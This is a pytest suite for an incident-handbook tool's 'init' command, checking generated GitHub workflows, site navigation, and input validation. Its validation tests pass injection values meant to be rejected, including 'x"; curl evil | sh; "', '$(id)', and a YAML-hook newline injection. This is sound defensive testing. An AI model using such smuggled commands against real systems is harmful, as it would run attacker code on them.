"""A fresh `opsbook init` is a working repository on day one: its navigation
reaches every generated section, and each GitHub workflow it writes runs.

The workflows' shell steps are run here as GitHub would run them (bash, in the
repository's root, with the step's env), except the `pip install` step, whose
requirement is checked instead (opsbook is already installed in this test's
environment). Jobs guarded by repository variables (the status page's publish
targets) are left out: they need credentials a test does not have.
"""

from __future__ import annotations

import http.server
import json
import os
import re
import subprocess
import threading
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from opsbook.cli import cli

NOW = "2026-11-20T15:00:00Z"


@pytest.fixture(scope="module")
def fresh(tmp_path_factory):
    root = tmp_path_factory.mktemp("init") / "acme"
    result = CliRunner().invoke(cli, ["init", str(root), "--name", "Acme", "--now", NOW,
                                      "--opsbook-source", "git+https://github.com/acme/opsbook@4f2c9e1"])
    assert result.exit_code == 0, result.output
    return root


def _workflows(root: Path) -> dict[str, dict]:
    return {p.stem: yaml.safe_load(p.read_text()) for p in sorted((root / ".github/workflows").glob("*.yml"))}


def test_init_writes_every_workflow_the_readme_describes(fresh):
    assert set(_workflows(fresh)) == {"validate", "site", "status", "handoff"}


def test_every_workflow_installs_the_chosen_source_and_nothing_unpublished(fresh):
    for name, flow in _workflows(fresh).items():
        installs = [step["run"] for job in flow["jobs"].values() for step in job["steps"]
                    if "pip install" in step.get("run", "")]
        for command in installs:
            assert command == 'pip install "git+https://github.com/acme/opsbook@4f2c9e1"', (name, command)
        text = (fresh / ".github/workflows" / f"{name}.yml").read_text()
        assert "opsbook==" not in text and "%%" not in text


@pytest.mark.parametrize("source", ['x"; curl evil | sh; "', "opsbook ==1", "$(id)", "a\nb", ""],
                         ids=["quote", "space", "subshell", "newline", "empty"])
def test_a_source_that_could_break_the_workflow_is_a_usage_error(tmp_path, source):
    result = CliRunner().invoke(cli, ["init", str(tmp_path / "x"), "--now", NOW, "--opsbook-source", source])
    assert result.exit_code == 2 and "--opsbook-source" in result.output
    assert not (tmp_path / "x").exists()


def test_navigation_reaches_every_generated_section(fresh):
    config = yaml.load((fresh / "mkdocs.yml").read_text(), Loader=yaml.BaseLoader)  # !ENV tags as text
    targets = {list(item.values())[0] for item in config["nav"]}
    assert {"index.md", "severity.md", "playbooks/index.md", "runbooks/index.md", "oncall/index.md",
            "incidents/index.md", "postmortems/index.md", "actions.md", "status/index.md"} <= targets


class _Slack(http.server.BaseHTTPRequestHandler):
    posts: list = []

    def do_POST(self):  # noqa: N802
        self.posts.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, *args):
        pass


def _steps(flow: dict):
    """(job, step) for every shell step of the jobs a plain push or dispatch runs."""
    for job_name, job in flow["jobs"].items():
        if "if" in job:  # publish targets behind repository variables
            continue
        for step in job["steps"]:
            if "run" in step:
                yield job_name, step


@pytest.mark.parametrize("workflow", ["validate", "site", "status", "handoff"])
def test_each_workflows_shell_steps_pass_on_the_fresh_knowledge_base(fresh, tmp_path, workflow):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), type("H", (_Slack,), {"posts": []}))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    github = {  # what ${{ ... }} expands to on a manual run of the handoff for `primary`
        "secrets.SLACK_HANDOFF_WEBHOOK_URL": f"http://127.0.0.1:{server.server_address[1]}/services/T/B/x",
        "matrix.schedule": "primary", "github.event_name == 'workflow_dispatch'": "true",
    }
    ran = 0
    try:
        for job, step in _steps(_workflows(fresh)[workflow]):
            command = step["run"]
            if command.startswith("pip install"):
                continue
            env = {**os.environ}
            for key, value in (step.get("env") or {}).items():
                expr = re.fullmatch(r"\$\{\{\s*(.+?)\s*\}\}", str(value))
                env[key] = github[expr.group(1)] if expr else str(value)
            done = subprocess.run(["bash", "-eo", "pipefail", "-c", command], cwd=fresh, env=env,
                                  capture_output=True, text=True, timeout=300)
            assert done.returncode == 0, (workflow, job, command, done.stdout[-2000:], done.stderr[-2000:])
            ran += 1
    finally:
        server.shutdown()
        server.server_close()
    assert ran >= 1
    if workflow == "handoff":
        assert len(server.RequestHandlerClass.posts) == 1  # the manual run posted the handoff
    if workflow == "status":
        assert (fresh / "status-site" / "index.html").is_file()
    if workflow in ("validate", "site"):
        assert (fresh / "site" / "index.html").is_file()


@pytest.mark.parametrize("name", ["Acme #1", "Acme: Ops", "[Ops]", "O'Brien & <Sons>", "{x}"],
                         ids=["hash", "colon", "brackets", "quote-amp-angle", "braces"])
def test_a_name_that_is_yaml_syntax_stays_the_name(tmp_path, name):
    """Found in review: the name went into YAML unquoted ('Acme #1' became 'Acme')."""
    root = tmp_path / "kb"
    result = CliRunner().invoke(cli, ["init", str(root), "--name", name, "--now", NOW])
    assert result.exit_code == 0, result.output
    assert yaml.safe_load((root / "opsbook.yaml").read_text())["name"] == name
    assert yaml.load((root / "mkdocs.yml").read_text(), Loader=yaml.BaseLoader)["site_name"] == f"{name} incident handbook"
    assert yaml.safe_load((root / "status/page.yaml").read_text())["name"] == f"{name} Status"
    assert "<Sons>" not in (root / "docs/index.md").read_text()
    assert CliRunner().invoke(cli, ["--root", str(root), "validate", "--now", NOW]).exit_code == 0


@pytest.mark.parametrize("name", ["Acme\n  hooks: [x.py]", "Acme\x1b[31m", "Acme\r"], ids=["newline", "ansi", "cr"])
def test_a_name_with_line_breaks_or_controls_is_a_usage_error(tmp_path, name):
    result = CliRunner().invoke(cli, ["init", str(tmp_path / "kb"), "--name", name, "--now", NOW])
    assert result.exit_code == 2 and "--name" in result.output
    assert not (tmp_path / "kb").exists()
